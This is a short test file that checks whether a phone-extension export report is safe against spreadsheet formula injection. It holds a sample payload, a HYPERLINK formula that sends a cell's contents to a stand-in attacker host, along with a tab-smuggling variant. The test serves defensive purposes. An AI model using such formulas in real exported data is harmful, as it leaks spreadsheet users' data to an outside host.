import { expect, test } from 'vitest'
import { reportText } from '../../../src/renderer/phones/export/export-report.tsx'

test('a report pasted into a spreadsheet holds no formula, whatever the list or the portal wrote', () => {
  const evil = '=HYPERLINK("https://evil.example/?"&B1,"more")'
  const text = reportText([
    { line: 1, extension: evil, problem: { kind: 'unknown-extension' } },
    { line: 2, extension: '2001', problem: { kind: 'unknown-model', model: evil } },
    { line: 3, extension: `"\t${evil}`, problem: { kind: 'no-extension' } },
  ])
  const cells = text.split('\n').map((line) => line.split('\t'))
  expect(cells.map((row) => row.length)).toEqual([3, 3, 3, 3])
  for (const cell of cells.flat()) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/)
  expect(cells[1]?.[1]).toBe(`'${evil}`)
})
